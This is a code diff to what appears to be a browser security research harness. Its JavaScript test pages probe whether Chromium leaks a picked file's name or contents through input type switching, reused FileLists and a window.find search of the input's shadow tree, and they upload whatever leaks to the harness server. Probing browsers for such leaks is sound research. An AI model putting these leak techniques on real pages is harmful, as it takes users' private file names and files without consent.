@@ -6,10 +6,8 @@
 // the barrier misses. A name learnt goes up as a text note "leak-….txt".
 // Served by server.mjs at /attack48-…; tests: attack48.test.mjs.
 
-import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once48) { window.once48 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
 /** attack 44's labeldeep (uploads.mjs browsersOwnPick), with what was learnt sent up as a note. */
 const deepPick = (onChange, before = '', setup = '') => browsersOwnPick(onChange, { before: `${leak}\n      ${before}`, setup });
@@ -19,9 +17,9 @@ const HTML_WAYS = {
   // does Chromium keep the file's name as the text input's value?
   typetext: deepPick(`i.type = 'text'; const v = i.value; note('typetext value ' + JSON.stringify(v)); if (v) leak(v, 'typetext');`),
   // The same with setAttribute, then the type set back to file: are the files still there (and read as known)?
-  typeback: deepPick(`i.setAttribute('type', 'text'); note('as text ' + JSON.stringify(i.value)); i.type = 'file'; note('back ' + i.files.length); if (i.files.length) { window.once48 = 1; send([...i.files], 'typeback'); }`),
+  typeback: deepPick(`i.setAttribute('type', 'text'); note('as text ' + JSON.stringify(i.value)); i.type = 'file'; note('back ' + i.files.length); if (i.files.length) { window.leakedOnce = 1; send([...i.files], 'typeback'); }`),
   // A FileList taken (empty) before the pick: does Chromium fill the same list object?
-  oldlist: deepPick(`note('old ' + window.old48.length + ' same ' + (window.old48 === i.files)); if (window.old48.length) { window.once48 = 1; send([window.old48[0]], 'oldlist'); }`, '', 'window.old48 = i.files;'),
+  oldlist: deepPick(`note('old ' + window.old48.length + ' same ' + (window.old48 === i.files)); if (window.old48.length) { window.leakedOnce = 1; send([window.old48[0]], 'oldlist'); }`, '', 'window.old48 = i.files;'),
   // i connected (never read), alone in the body: the name Chromium draws inside the input (its user-agent shadow tree)
   // is found by window.find, one character at a time (case-sensitive; every string found that is not part of the
   // button's own "Choose File" is part of the name; the longest such is uploaded as a text note).
